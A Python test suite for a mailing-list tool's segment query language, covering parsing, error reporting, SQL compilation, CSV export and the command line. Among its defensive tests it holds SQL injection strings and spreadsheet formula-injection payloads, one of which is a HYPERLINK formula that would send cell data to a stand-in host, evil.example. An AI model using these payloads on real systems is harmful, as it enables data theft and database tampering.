"""The segment language: parsing, names, compiling to SQL on both databases, export and the CLI."""

from __future__ import annotations

import csv
import io
import json
import os
import random
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
from sqlalchemy import select
from support.cli_runner import MailerCli
from support.hashes import hash_of

from mailer.audience.exports import write_csv
from mailer.audience.segments import (
    All,
    And,
    FieldIs,
    InterestIs,
    Not,
    Or,
    RegionIs,
    SegmentRef,
    compile_segment,
    count,
    count_query,
    members_query,
    parse,
    resolve,
)
from mailer.audience.shape import SegmentDef, Shape
from mailer.db import Database
from mailer.errors import SegmentSyntaxError, UnknownName
from mailer.models import Interest, Member, MemberField, Region, Suppression

# ---------------------------------------------------------------------------------------------
# Parsing


def test_precedence_not_over_and_over_or() -> None:
    assert parse("region:kent or interest:refugees and interest:schools") == Or(
        (RegionIs("kent"), And((InterestIs("refugees"), InterestIs("schools"))))
    )
    assert parse("not region:kent and interest:refugees") == And(
        (Not(RegionIs("kent")), InterestIs("refugees"))
    )
    assert parse("not not all or all") == Or((Not(Not(All())), All()))
    assert parse("all and all and all") == And((All(), All(), All()))


def test_parentheses_override_precedence() -> None:
    assert parse("(region:kent or interest:refugees) and interest:schools") == And(
        (Or((RegionIs("kent"), InterestIs("refugees"))), InterestIs("schools"))
    )
    assert parse("not (region:kent and ((all)))") == Not(And((RegionIs("kent"), All())))


def test_keywords_are_case_insensitive_and_columns_recorded() -> None:
    node = parse('REGION:Kent AND NOT Interest:refugees OR Field.student = "yes" or ALL or Kent-Refugees')
    assert node == Or(
        (
            And((RegionIs("kent"), Not(InterestIs("refugees")))),
            FieldIs("student", "yes"),
            All(),
            SegmentRef("kent-refugees"),
        )
    )
    assert isinstance(node, Or)
    first = node.operands[0]
    assert isinstance(first, And)
    assert [first.operands[0].column, node.operands[1].column] == [1, 42]  # type: ignore[union-attr]


def test_the_example_from_the_design() -> None:
    node = parse(
        'region:kent and (interest:refugees or interest:womens-rights) and not field.student = "yes"'
    )
    assert node == And(
        (
            RegionIs("kent"),
            Or((InterestIs("refugees"), InterestIs("womens-rights"))),
            Not(FieldIs("student", "yes")),
        )
    )


@pytest.mark.parametrize(
    ("expression", "value"),
    [
        ('field.x = "plain"', "plain"),
        ("field.x = 'single'", "single"),
        (r'field.x = "say \"hi\""', 'say "hi"'),
        (r"field.x = 'it\'s'", "it's"),
        (r'field.x = "back\\slash"', "back\\slash"),
        ('field.x = "it\'s"', "it's"),
        ("field.x = 'a \"b\"'", 'a "b"'),
        ('field.x = ""', ""),
        ('field.x = "  spaced and or not ( "', "  spaced and or not ( "),
    ],
)
def test_quoted_values_and_escapes(expression: str, value: str) -> None:
    assert parse(expression) == FieldIs("x", value)


def test_not_equal_and_quoted_field_names() -> None:
    assert parse("field.student != 'yes'") == FieldIs("student", "yes", negated=True)
    assert parse('field."first language" = "Welsh"') == FieldIs("first language", "Welsh")


@pytest.mark.parametrize(
    ("expression", "column", "expected"),
    [
        ("region:", 8, "expected a region slug after 'region:', found the end of the expression"),
        ("region:kent and", 16, "found the end of the expression"),
        ("(region:kent", 13, "expected ')' to close the '(' at column 1"),
        ("interest:refugees or or", 22, "found 'or'"),
        ("field.student = yes", 17, "expected a quoted value after '='"),
        ("region:kent & interest:refugees", 13, "unexpected character '&'"),
        ("region:kent; drop table members", 12, "unexpected character ';'"),
        ("region:kent)", 12, "expected 'and', 'or' or the end of the expression, found ')'"),
        ("region:kent interest:refugees", 13, "expected 'and', 'or' or the end of the expression"),
        ("", 1, "found the end of the expression"),
        ("   ", 4, "found the end of the expression"),
        ("interest refugees", 10, "expected ':' after 'interest'"),
        ("regon:kent", 1, "expected 'region:', 'interest:' or 'field.'"),
        ("field.student", 14, "expected '=' or '!=' after 'field.student'"),
        ("field = 'x'", 7, "expected '.' after 'field'"),
        ('field.x = "open', 11, "never closed"),
        ("not", 4, "found the end of the expression"),
        ("()", 2, "found ')'"),
        ("and region:kent", 1, "'and' needs a condition on each side"),
        ("region:kent ! interest:refugees", 13, "unexpected character '!'"),
    ],
)
def test_syntax_errors_name_the_column(expression: str, column: int, expected: str) -> None:
    with pytest.raises(SegmentSyntaxError) as info:
        parse(expression)
    exc = info.value
    assert exc.problem.column == column
    assert expected in str(exc)
    assert f"column {column}:" in str(exc)
    # The expression is shown with a caret under the column.
    lines = str(exc).splitlines()
    shown = next(
        i for i, line in enumerate(lines) if line.startswith("    ") and line.strip() == expression.strip()
    )
    assert lines[shown + 1] == "    " + " " * (column - 1) + "^"


def test_error_hints_say_how_to_fix() -> None:
    with pytest.raises(SegmentSyntaxError, match=r'quote the value: field.student = "yes"'):
        parse("field.student = yes")
    with pytest.raises(SegmentSyntaxError, match="use 'and'"):
        parse("region:kent && interest:refugees")
    with pytest.raises(SegmentSyntaxError, match="did you mean region:"):
        parse("regoin:kent")


def test_a_slug_with_a_quote_is_rejected_by_the_parser() -> None:
    with pytest.raises(SegmentSyntaxError) as info:
        parse("interest:o'brien")
    assert info.value.problem.column == 11
    with pytest.raises(SegmentSyntaxError):
        parse("interest:refugees' or '1'='1")
    with pytest.raises(SegmentSyntaxError):
        parse('region:"kent"')


# ---------------------------------------------------------------------------------------------
# Names: unknown ones, saved segments, cycles


def test_unknown_region_interest_and_segment_suggest_close_names(shape: Shape) -> None:
    with pytest.raises(UnknownName) as info:
        compile_segment("region:kentt and interest:refugees", shape)
    assert "unknown region 'kentt'" in str(info.value)
    assert "did you mean 'kent'" in str(info.value)
    with pytest.raises(UnknownName, match=r"unknown interest 'refugee'.*did you mean 'refugees'"):
        compile_segment("region:kent and not interest:refugee", shape)
    with pytest.raises(UnknownName, match=r"unknown segment 'kent-refugee'.*did you mean 'kent-refugees'"):
        compile_segment("kent-refugee", shape)
    with pytest.raises(UnknownName, match=r"for the interest write interest:refugees"):
        compile_segment("refugees", shape)
    with pytest.raises(UnknownName, match=r"known regions: ashford, "):
        compile_segment("region:zzzzzz", shape)


def test_saved_segments_expand_recursively(shape: Shape) -> None:
    segments = {
        **shape.segments,
        "outer": SegmentDef("outer", "inner or interest:schools"),
        "inner": SegmentDef("inner", "kent-refugees and not field.student = 'yes'"),
    }
    shaped = replace(shape, segments=segments)
    assert resolve(parse("outer"), shaped) == Or(
        (
            And((And((RegionIs("kent"), InterestIs("refugees"))), Not(FieldIs("student", "yes")))),
            InterestIs("schools"),
        )
    )


def test_saved_segment_cycles_are_errors(shape: Shape) -> None:
    segments = {
        "a": SegmentDef("a", "region:kent and b"),
        "b": SegmentDef("b", "interest:refugees or (c)"),
        "c": SegmentDef("c", "not a"),
        "me": SegmentDef("me", "me"),
    }
    shaped = replace(shape, segments=segments)
    with pytest.raises(SegmentSyntaxError, match="'a' uses itself: a → b → c → a"):
        compile_segment("all and a", shaped)
    with pytest.raises(SegmentSyntaxError, match="'me' uses itself: me → me"):
        compile_segment("me", shaped)


def test_errors_inside_a_saved_segment_name_it(shape: Shape) -> None:
    shaped = replace(
        shape,
        segments={
            "broken": SegmentDef("broken", "region:kent and"),
            "typo": SegmentDef("typo", "interest:refugess"),
        },
    )
    with pytest.raises(SegmentSyntaxError, match="in saved segment 'broken'") as info:
        compile_segment("broken", shaped)
    assert info.value.problem.column == 16
    with pytest.raises(UnknownName, match="unknown interest 'refugess' \\(in saved segment 'typo'\\)"):
        compile_segment("typo", shaped)


# ---------------------------------------------------------------------------------------------
# Limits: length, conditions and nesting, in one expression and through saved segments


@pytest.mark.parametrize(
    ("expression", "column", "message"),
    [
        ("(" * 51 + "all" + ")" * 51, 51, "nested more than 50 levels deep"),
        ("(" * 300 + "all" + ")" * 300, 51, "nested more than 50 levels deep"),
        ("not " * 1000 + "all", 201, "nested more than 50 levels deep"),
        ("all or all and (" * 26 + "all" + ")" * 26, 401, "nested more than 50 levels deep"),
        (" or ".join(["all"] * 201), 1401, "more than 200 conditions"),
        (" or ".join(["all"] * 1000), 1401, "more than 200 conditions"),
        ("all " + " " * 10_000, 10_001, "characters long; a segment expression is at most 10,000"),
    ],
    ids=[
        "51-parentheses",
        "300-parentheses",
        "1000-nots",
        "52-levels-of-or-and",
        "201-terms",
        "1000-terms",
        "10-kb",
    ],
)
def test_limits_are_located_syntax_errors(expression: str, column: int, message: str) -> None:
    with pytest.raises(SegmentSyntaxError, match=message) as info:
        parse(expression)
    assert info.value.problem.column == column
    assert len(str(info.value)) < 600, "the error shows the place, not the whole expression"


def test_the_limits_themselves_are_allowed() -> None:
    assert isinstance(parse("(" * 50 + "all" + ")" * 50), All)
    assert isinstance(parse("not " * 50 + "all"), Not)
    assert len(parse(" or ".join(["all"] * 200)).operands) == 200  # type: ignore[union-attr]


def test_saved_segments_cannot_expand_past_the_limits(shape: Shape) -> None:
    doubling = {f"s{i}": SegmentDef(f"s{i}", f"s{i + 1} or s{i + 1}") for i in range(1, 9)}
    doubling["s9"] = SegmentDef("s9", "region:kent or interest:refugees")
    chain = {f"d{i}": SegmentDef(f"d{i}", f"not (d{i + 1})") for i in range(1, 80)}
    chain["d80"] = SegmentDef("d80", "all")
    shaped = replace(shape, segments={**doubling, **chain})
    with pytest.raises(
        SegmentSyntaxError,
        match="column 9: with saved segment 's1' expanded, the expression holds more than 200",
    ) as info:
        compile_segment("all and s1", shaped)
    assert info.value.problem.column == 9
    with pytest.raises(
        SegmentSyntaxError, match="'d1' expanded, the expression is nested more than 50 levels"
    ):
        compile_segment("d1", shaped)
    assert isinstance(resolve(parse("s3"), shaped), Or)  # 128 conditions: fine


def test_error_display_has_no_control_characters() -> None:
    with pytest.raises(SegmentSyntaxError) as info:
        parse("region:kent and \x1b[2J")
    assert "\x1b" not in str(info.value) and "unexpected character '\\x1b'" in str(info.value)


# ---------------------------------------------------------------------------------------------
# Members in a real database, and an independent model of them in Python


@dataclass(frozen=True)
class Person:
    email: str
    name: str
    postcode: str
    region: str | None
    interests: frozenset[str]
    fields: dict[str, str]
    suppressed: bool


TRICKY_NAMES = ["Zoë O'Neil, Jr.", 'Ann "Nan" Smith', "Robert'); DROP TABLE members;--", "Łukasz Żółw"]


def make_people(shape: Shape, n: int = 400, seed: int = 20251117) -> list[Person]:
    rng = random.Random(seed)
    regions = [*shape.regions, None]
    interests = ["refugees", "womens-rights", "schools", "palestine", "mp-advocacy"]
    people = []
    for i in range(n):
        fields: dict[str, str] = {}
        student = rng.choice(["yes", "no", None])
        if student is not None:
            fields["student"] = student
        if rng.random() < 0.3:
            fields["language"] = rng.choice(["en", "cy", 'O\'Brien "x"'])
        people.append(
            Person(
                email=f"person{i:04d}@example.org",
                name=TRICKY_NAMES[i] if i < len(TRICKY_NAMES) else f"Person {i}",
                postcode=f"ME{i % 20} {i % 9}AB",
                region=rng.choice(regions),
                interests=frozenset(rng.sample(interests, rng.choice([0, 1, 1, 2, 3]))),
                fields=fields,
                suppressed=rng.random() < 0.15,
            )
        )
    return people


def insert_people(db: Database, people: list[Person]) -> None:
    with db.session() as session:
        region_ids = {slug: id_ for slug, id_ in session.execute(select(Region.slug, Region.id))}
        interests = {i.slug: i for i in session.scalars(select(Interest))}
        for p in people:
            member = Member(
                email=p.email,
                address_hash=hash_of(p.email),
                name=p.name,
                postcode=p.postcode,
                region_id=region_ids[p.region] if p.region else None,
            )
            member.interests = [interests[s] for s in sorted(p.interests)]
            member.fields = [MemberField(name=k, value=v) for k, v in p.fields.items()]
            session.add(member)
            if p.suppressed:
                session.add(Suppression(address_hash=hash_of(p.email), reason="unsubscribe", source="admin"))


@pytest.fixture
def people(db: Database, shape: Shape) -> list[Person]:
    out = make_people(shape)
    insert_people(db, out)
    return out


def in_region(shape: Shape, p: Person, slug: str) -> bool:
    return p.region is not None and slug in shape.ancestors(p.region)


Predicate = Callable[[Shape, Person], bool]

CASES: list[tuple[str, Predicate]] = [
    ("all", lambda s, p: True),
    ("region:kent", lambda s, p: in_region(s, p, "kent")),
    ("region:south-east", lambda s, p: in_region(s, p, "south-east")),
    ("region:maidstone-medway-swale", lambda s, p: p.region == "maidstone-medway-swale"),
    ("interest:refugees", lambda s, p: "refugees" in p.interests),
    (
        'region:kent and (interest:refugees or interest:womens-rights) and not field.student = "yes"',
        lambda s, p: (
            in_region(s, p, "kent")
            and bool({"refugees", "womens-rights"} & p.interests)
            and p.fields.get("student") != "yes"
        ),
    ),
    ("field.student != 'yes'", lambda s, p: p.fields.get("student") != "yes"),
    ("field.student = 'no'", lambda s, p: p.fields.get("student") == "no"),
    ("not region:kent", lambda s, p: not in_region(s, p, "kent")),
    (
        r'interest:mp-advocacy or field.language = "O\'Brien \"x\""',
        lambda s, p: "mp-advocacy" in p.interests or p.fields.get("language") == 'O\'Brien "x"',
    ),
    ("kent-refugees", lambda s, p: in_region(s, p, "kent") and "refugees" in p.interests),
    (
        "not (interest:refugees or interest:schools) and region:central-england",
        lambda s, p: not ({"refugees", "schools"} & p.interests) and in_region(s, p, "central-england"),
    ),
    (
        "NOT region:maidstone-medway-swale AND interest:palestine OR field.student = 'no'",
        lambda s, p: (
            (p.region != "maidstone-medway-swale" and "palestine" in p.interests)
            or p.fields.get("student") == "no"
        ),
    ),
    (
        "kent-womens-rights-or-refugees-not-students",
        lambda s, p: (
            in_region(s, p, "kent")
            and bool({"refugees", "womens-rights"} & p.interests)
            and p.fields.get("student") != "yes"
        ),
    ),
    ("not all", lambda s, p: False),
]


@pytest.mark.parametrize(("expression", "predicate"), CASES, ids=[c[0] for c in CASES])
def test_counts_agree_with_python(
    db: Database, shape: Shape, people: list[Person], expression: str, predicate: Predicate
) -> None:
    expected = [p.email for p in people if not p.suppressed and predicate(shape, p)]
    with db.session() as session:
        assert count(session, expression, shape) == len(expected)
        emails = [m.email for m in session.scalars(members_query(expression, shape))]
    assert emails == expected  # members_query is ordered by id, which is insertion order


def test_the_dataset_exercises_every_case(shape: Shape) -> None:
    people = make_people(shape)
    for expression, predicate in CASES[:-1]:
        matched = [p for p in people if predicate(shape, p)]
        assert matched, expression  # not vacuous
        assert any(p.suppressed for p in matched), expression  # suppression is tested on each
    assert any(p.region is None for p in people)


def test_a_region_reaches_its_local_groups(db: Database, shape: Shape) -> None:
    people = [
        Person("a@example.org", "A", "", "maidstone-medway-swale", frozenset(), {}, False),
        Person("b@example.org", "B", "", "canterbury", frozenset(), {}, False),
        Person("c@example.org", "C", "", "kent", frozenset(), {}, False),
        Person("d@example.org", "D", "", "sussex", frozenset(), {}, False),
        Person("e@example.org", "E", "", "central-england", frozenset(), {}, False),
        Person("f@example.org", "F", "", None, frozenset(), {}, False),
    ]
    insert_people(db, people)
    with db.session() as session:

        def who(expression: str) -> list[str]:
            return [m.name for m in session.scalars(members_query(expression, shape))]

        assert who("region:south-east") == ["A", "B", "C", "D"]
        assert who("region:kent") == ["A", "B", "C"]
        assert who("region:maidstone-medway-swale") == ["A"]
        assert who("not region:kent") == ["D", "E", "F"]  # no region is not in Kent


def test_suppressed_members_never_count(db: Database, shape: Shape) -> None:
    people = [
        Person("in@example.org", "In", "", "kent", frozenset({"refugees"}), {"student": "yes"}, False),
        Person("out@example.org", "Out", "", "kent", frozenset({"refugees"}), {"student": "yes"}, True),
    ]
    insert_people(db, people)
    with db.session() as session:
        for expression in ["all", "region:kent", "interest:refugees", "field.student = 'yes'", "not not all"]:
            assert count(session, expression, shape) == 1, expression
        assert count(session, "not region:kent", shape) == 0
        assert count(session, "not (region:kent and interest:refugees)", shape) == 0
        # A suppression added for another spelling of the same address also excludes the member.
        session.add(
            Suppression(address_hash=hash_of(" IN@Example.ORG "), reason="unsubscribe", source="link")
        )
        session.flush()
        assert count(session, "all", shape) == 0


def test_values_are_bound_parameters_not_sql(db: Database, shape: Shape) -> None:
    nasty = "x' OR '1'='1"
    people = [
        Person("a@example.org", "A", "", None, frozenset(), {"note": nasty}, False),
        Person("b@example.org", "B", "", None, frozenset(), {"note": "x"}, False),
    ]
    insert_people(db, people)
    expression = "field.note = \"x' OR '1'='1\""
    sql = str(count_query(expression, shape).compile())
    assert nasty not in sql and "'1'='1" not in sql
    with db.session() as session:
        assert count(session, expression, shape) == 1
        assert count(session, 'field.note = "x"', shape) == 1
        assert count(session, 'field."note" != "x"', shape) == 1
        assert (
            session.scalar(select(Member.email).where(compile_segment(expression, shape))) == "a@example.org"
        )


# ---------------------------------------------------------------------------------------------
# Export


def expected_rows(people: list[Person], keep: Callable[[Person], bool]) -> list[list[str]]:
    return [
        [
            p.email,
            p.name,
            p.postcode,
            p.region or "",
            ";".join(sorted(p.interests)),
            p.fields.get("language", ""),
            p.fields.get("student", ""),
        ]
        for p in people
        if not p.suppressed and keep(p)
    ]


@pytest.mark.parametrize("chunk_size", [1, 7, 5000])
def test_export_csv_columns_and_rows(
    db: Database, shape: Shape, people: list[Person], chunk_size: int
) -> None:
    out = io.StringIO()
    with db.session() as session:
        n = write_csv(session, out, shape, "region:kent or interest:schools", chunk_size=chunk_size)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["email", "name", "postcode", "region", "interests", "language", "student"]
    expected = expected_rows(people, lambda p: in_region(shape, p, "kent") or "schools" in p.interests)
    assert rows[1:] == expected
    assert n == len(expected)


@pytest.mark.parametrize("chunk_size", [2, 3, 50])
def test_export_of_a_sparse_segment(
    db: Database, shape: Shape, people: list[Person], chunk_size: int
) -> None:
    """Chunks whose members are far apart fetch interests and fields by id list, not by range."""
    out = io.StringIO()
    with db.session() as session:
        write_csv(session, out, shape, "region:maidstone-medway-swale", chunk_size=chunk_size)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    expected = expected_rows(people, lambda p: p.region == "maidstone-medway-swale")
    assert len(expected) > 2 * chunk_size or chunk_size == 50
    assert rows[1:] == expected


def test_export_keeps_tricky_names_intact(db: Database, shape: Shape, people: list[Person]) -> None:
    out = io.StringIO()
    with db.session() as session:
        write_csv(session, out, shape)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    by_email = {r["email"]: r for r in rows}
    for p in people[: len(TRICKY_NAMES)]:
        if not p.suppressed:
            assert by_email[p.email]["name"] == p.name
    assert len(rows) == sum(not p.suppressed for p in people)


def test_export_neutralises_formulas(db: Database, shape: Shape) -> None:
    """A cell a spreadsheet would run as a formula gets a ' before it; raw=True writes it as stored."""
    hostile = {
        '=HYPERLINK("http://evil.example/?d="&B2,"Open")': "hyper@example.org",
        "+SUM(1+1)": "plus@example.org",
        "-2+3": "minus@example.org",
        "@SUM(1)": "at@example.org",
        "\t=1": "tab@example.org",
        "\r=1": "cr@example.org",
        "Ann = Bob": "plain@example.org",
    }
    people = [
        Person(email, name, "", None, frozenset(), {"note": name}, False) for name, email in hostile.items()
    ]
    people.append(Person("=x@example.org", "Eve", "", None, frozenset(), {}, False))
    insert_people(db, people)
    for raw in (False, True):
        out = io.StringIO()
        with db.session() as session:
            write_csv(session, out, shape, raw=raw)
        rows = {r["email"]: r for r in csv.DictReader(io.StringIO(out.getvalue()))}
        for name, email in hostile.items():
            expected = name if raw or name == "Ann = Bob" else "'" + name
            assert (rows[email]["name"], rows[email]["note"]) == (expected, expected)
        assert ("=x@example.org" if raw else "'=x@example.org") in rows


def test_cli_export_neutralises_formulas_and_raw_turns_it_off(db: Database, mailer_cli: MailerCli) -> None:
    insert_people(
        db,
        [Person("hyper@example.org", '=HYPERLINK("http://evil.example")', "", None, frozenset(), {}, False)],
    )
    safe = mailer_cli("lists", "export", check=True).stdout
    assert 'hyper@example.org,"\'=HYPERLINK(""http://evil.example"")"' in safe
    raw = mailer_cli("lists", "export", "--raw", check=True).stdout
    assert 'hyper@example.org,"=HYPERLINK(' in raw
    help_text = mailer_cli("lists", "export", "--help", check=True).stdout
    assert "--raw" in help_text and "formula" in help_text


def test_export_refuses_a_bad_expression_before_writing(db: Database, shape: Shape) -> None:
    out = io.StringIO()
    with db.session() as session, pytest.raises(UnknownName):
        write_csv(session, out, shape, "region:atlantis")
    assert out.getvalue() == ""


# ---------------------------------------------------------------------------------------------
# The command line


def test_cli_count_json(db: Database, shape: Shape, people: list[Person], mailer_cli: MailerCli) -> None:
    expression = 'region:kent and (interest:refugees or interest:womens-rights) and not field.student = "yes"'
    expected = sum(
        1
        for p in people
        if not p.suppressed
        and in_region(shape, p, "kent")
        and {"refugees", "womens-rights"} & p.interests
        and p.fields.get("student") != "yes"
    )
    result = mailer_cli("lists", "count", "--json", expression)
    assert result.exit_code == 0, result.stderr
    assert result.stdout == json.dumps({"count": expected}) + "\n"
    assert json.loads(result.stdout) == {"count": expected}
    plain = mailer_cli("lists", "count", "kent-refugees")
    assert plain.stdout.strip() == str(
        sum(
            1
            for p in people
            if not p.suppressed and in_region(shape, p, "kent") and "refugees" in p.interests
        )
    )


def test_cli_count_errors(db: Database, mailer_cli: MailerCli) -> None:
    result = mailer_cli("lists", "count", "region:kent and")
    assert result.exit_code == 2
    assert "column 16" in result.stderr
    assert "    region:kent and\n" in result.stderr and "                   ^" in result.stderr
    result = mailer_cli("lists", "count", "interest:refugee")
    assert result.exit_code == 2
    assert "did you mean 'refugees'" in result.stderr
    assert result.stdout == ""


def test_cli_export_to_file_and_stdout(
    db: Database, shape: Shape, people: list[Person], mailer_cli: MailerCli, tmp_path: Path
) -> None:
    target = tmp_path / "kent.csv"
    result = mailer_cli("lists", "export", "--segment", "region:kent", "-o", str(target))
    assert result.exit_code == 0, result.stderr
    expected = expected_rows(people, lambda p: in_region(shape, p, "kent"))
    rows = list(csv.reader(target.open(newline="", encoding="utf-8")))
    assert rows[1:] == expected
    assert f"wrote {len(expected)} member(s)" in result.stderr
    everyone = mailer_cli("lists", "export")
    rows = list(csv.reader(io.StringIO(everyone.stdout)))
    assert rows[0][0] == "email"
    assert len(rows) - 1 == sum(not p.suppressed for p in people)
    bad = mailer_cli("lists", "export", "--segment", "region:", "-o", str(tmp_path / "never.csv"))
    assert bad.exit_code == 2
    assert not (tmp_path / "never.csv").exists()


def test_cli_help_shows_the_syntax() -> None:
    for command in ("count", "export"):
        result = MailerCli(os.environ)("lists", command, "--help")
        assert result.exit_code == 0
        assert "interest:refugees" in result.stdout and 'field.student = "yes"' in result.stdout
